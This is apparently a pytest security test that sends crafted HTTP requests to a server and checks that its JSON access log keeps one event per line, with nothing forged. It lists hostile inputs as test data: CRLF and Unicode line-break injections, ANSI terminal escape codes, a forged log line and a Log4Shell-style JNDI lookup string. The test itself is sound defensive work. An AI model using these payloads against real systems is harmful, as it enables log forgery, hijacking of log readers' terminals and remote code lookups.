"""The log has one JSON line an event, whatever is asked, and no line of a stranger."""

import json
import time

from tests.attacks.probes.raw_requests import TRUSTED, Plain, exchange
from tests.support.servers.server_process import Server
from tests.tools.reliability.figures import none_lost, times

MARK = "LOG-CANARY"
FORGED = '{"time": "2026-01-01", "level": "ERROR", "message": "' + MARK + '-FORGED"}'
ENDINGS = [
    *("%0d%0a", "%0a", "%0d", "%00", "%1b[2J%1b[31m", "%e2%80%a8", "%c2%85", "%0b"),
    *("%ff%fe", "%ed%a0%80", "%e2%80%ae", "%22%7d%0a%7b%22", "%5cn", "%9b31m"),
]
AGENTS = [
    b"a\x1b[2J\x1b]0;owned\x07",
    b"${jndi:ldap://elsewhere.example/a}",
    b'"}\n{"message": "',
    b"\xff\xfe\x80",
    b"a" * 300_000,
    b"a" * 1_000_000,
]


def _lines(server: Server) -> list[str]:
    return server.log.read_text(encoding="utf-8", errors="strict").split("\n")


def _requests(number: int) -> list[bytes]:
    """Requests that would write a line of their own, or clear whoever reads the log."""
    asked = [
        f"GET {path} HTTP/1.1\r\n".encode("latin-1") + TRUSTED
        for turn in range(number)
        for ending in ENDINGS
        for path in (
            f"/{MARK}-{turn}{ending}{FORGED.replace(' ', '%20')}/",
            f"/anakinra/{MARK}{ending}?weight=weighed-seven{ending}{MARK}",
            f"/admin/{MARK}{ending}/",
            f"/fhir/{MARK}{ending}",
        )
    ]
    said = [
        f"GET /anakinra/{MARK}/ HTTP/1.1\r\n".encode()
        + TRUSTED
        + b"User-Agent: " + agent + b"\r\nReferer: " + agent[:5000] + b"\r\n"
        + b"X-Forwarded-For: " + agent[:50] + b"\r\n"
        for agent in AGENTS * number
    ]  # fmt: skip
    refused = [
        b"POST /admin/login/ HTTP/1.1\r\n" + TRUSTED + b"Origin: \x1b[2J\r\n",
        b"GET / HTTP/1.1\r\nHost: a\x1b[2J" + MARK.encode() + b"\r\n",
        b"GET / HTTP/1.1\r\nHost: evil.example\r\n",
    ]
    sent = asked + said + refused * number
    return [request + b"Connection: close\r\n\r\n" for request in sent]


def test_each_line_is_one_event_and_none_is_forged(shipped: Server) -> None:
    begun, answered = len(_lines(shipped)), 0
    sent = _requests(times(1, 20))
    for request in sent:
        answered += len(exchange(Plain(shipped), request).statuses)
    for _ in range(100):  # a line is written after its answer was sent
        written = [line for line in _lines(shipped)[begun - 1 :] if line]
        asked = [line for line in written if '"granian.access"' in line]
        # What the server itself could not read as HTTP has no line.
        if len(asked) >= answered * 3 // 4:
            break
        time.sleep(0.1)
    wrong = [line for line in written if not _is_one_event(line)]
    none_lost(
        wrong,
        "attacks",
        "Line ends, escapes and long texts on their way to the log",
        tried=len(sent),
        unit="requests",
        on_database=False,
    )
    assert any(MARK in line for line in asked)
    assert "weighed-seven" not in "".join(written)


def _is_one_event(line: str) -> bool:
    """Return whether a line is one JSON object, printable, and nobody else's."""
    try:
        event = json.loads(line)
    except ValueError:
        return False
    if not {"time", "level", "logger"} <= set(event) or event["level"] == "ERROR":
        return False
    return line.isascii() and line.isprintable() and not line.startswith(FORGED[:20])
